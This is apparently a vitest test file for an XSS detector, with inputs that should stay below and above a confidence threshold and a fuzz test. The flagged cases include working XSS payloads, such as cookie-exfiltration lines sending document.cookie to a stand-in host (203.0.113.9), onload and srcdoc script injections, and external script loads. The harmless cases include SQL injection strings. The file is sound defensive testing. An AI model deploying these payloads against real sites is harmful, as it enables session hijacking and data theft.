import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { confidenceOf, matchRaw } from './xss-text.ts';

describe('harmless text', () => {
  test.each([
    'if (a<b && c>d) { return x; }',
    'how do I put <script> in templates with {{ name }} in them',
    'Map<String, List<Integer>> m',
    'export function add<T>(a: T): T { return a; }',
    '<user@example.org>, <https://example.org/?a=b|link>, <@U42>',
    '<note><to>Tove</to><from>Jani</from></note>',
    '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body/></soap:Envelope>',
    '<input onChange={(event) => setName(event.target.value)} value={name} />',
    '<Row onSelect={this.handleSelect} />',
    "<iframe src={url} frameBorder={'0'} />",
    '<embed src={menu.file?.url} type="application/pdf" />',
    '<iframe src="{{ menu.url }}"></iframe>',
    '<li v-for="item in items" :key="item.id" @click="select(item)">{{ item.name }}</li>',
    '<style>a::after { content: "<q>"; } b > i { color: red }</style>',
    '<style><!-- p { margin: 0 } --></style>',
    '<svg viewBox="0 0 24 24"><path d="M0 0h24v24H0z" fill="none"/></svg>',
    '<link rel="alternate" type="application/rss+xml" href="https://example.org/feed">',
    'javascript: the good parts',
    'javascript:;',
    'mode=on&online=1&once=true onion=red',
    'one="1" only="2" online="true"',
    'fix(ui): alert() on save',
    'Can I use `alert(1)` here?',
    'alert("sale")',
    'var answer = prompt("Which table:", "");',
    '$answer = prompt("Show the menu?", "no");',
    "prompt('Wie geht es dir?');",
    'confirm()',
    'window.alert is not a function',
    '}).then(() => fetch("/api/users"))',
    "$('.menu').html(document.title)",
    "'; drop table users--",
    "1' and sleep(5)#",
    `$\{user.name} {{7*7}} #{name}`,
    'self["name"] this["x"]',
    'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
    '$\\frac{a}{b}$ and \\alert{x}',
    '<3 <-- <- <= <> <1ms',
    'if (!(await confirm({ message: "Overwrite the draft?" }))) return;',
    'const choice = await prompts.confirm({\n  title: `Remove the file?`,\n  force: true,\n});',
    "button.onclick = () => { alert('Sold to ' + guest.fullName + '. Seat: ' + guest.seat); };",
    'if (!confirm("Leave the table?")) return;',
    'answer = input(prompt)',
    'response = llm.invoke(prompt)\nprint(response)',
    'const tokens = count(encoder.encode(prompt));',
    'const answer = await askModel(prompt, { temperature: 0 });',
    'ask(None, prompt = prompt)\nsys.exit(0)',
    'function ask({ reader, prompt, }) {\n  reader.show(prompt.text);\n}',
  ])('%j stays clean', (text) => {
    expect(confidenceOf(text)).toBeLessThan(0.5);
  });
});

test.each([
  'let a = prompt("a", alert(1));',
  "alert(a.b);document.location='//203.0.113.9/'+document.cookie",
  `${'alert(a.b);'.repeat(12)}alert(document.domain)`,
  "if(confirm('a')){location='//203.0.113.9/'+document.cookie}",
  '[1].map(prompt)',
  'setTimeout(prompt)',
  'show=a=>a(1);show(prompt)',
  'input(alert)',
  "'-webkitRequestAnimationFrame(confirm)-'",
  '<iframe src={url} onload=alert(1)>',
  '<iframe src={url} srcdoc="<script>alert(1)</script>" />',
  '<embed src={url} code=//203.0.113.9/a.swf>',
  '<svg><script src={url} href=//203.0.113.9/a.js>',
  '<iframe src={a()} />',
  '<iframe src="{x}//203.0.113.9/">',
])('what stands beside what is harmless counts: %s', (text) => {
  expect(confidenceOf(text)).toBeGreaterThanOrEqual(0.5);
});

const PIECES = [
  ...[
    '<',
    '>',
    '"',
    "'",
    '`',
    '=',
    '/',
    '<!--',
    '-->',
    '<![CDATA[',
    '<a ',
    '<script>',
    '</script',
    '<style>',
    '<p onx=',
  ],
  ...['alert', '(', ')', '[', ']', '{{', '}}', '${', '\\u0061', '\\', 'javascript:', 'data:text/html,', '&#x6', '&lt;'],
  ...[
    '\0',
    '\ud800',
    '\n',
    ' ',
    'document.cookie',
    'constructor',
    'expression(',
    'url(',
    '@import',
    '/*',
    '*/',
    '//',
    'é',
  ],
];

test('no mixture of pieces throws, and what is found lies inside the text', () => {
  const mixture = fc.array(fc.oneof(fc.constantFrom(...PIECES), fc.string({ maxLength: 4 })), { maxLength: 60 });
  fc.assert(
    fc.property(mixture, (pieces) => {
      const text = pieces.join('');
      const finding = matchRaw(text);
      if (finding === null) return;
      expect(finding.at).toBeGreaterThanOrEqual(0);
      expect(finding.at).toBeLessThanOrEqual(text.length);
      expect(finding.confidence).toBeLessThanOrEqual(1);
    }),
    { numRuns: 300 },
  );
});
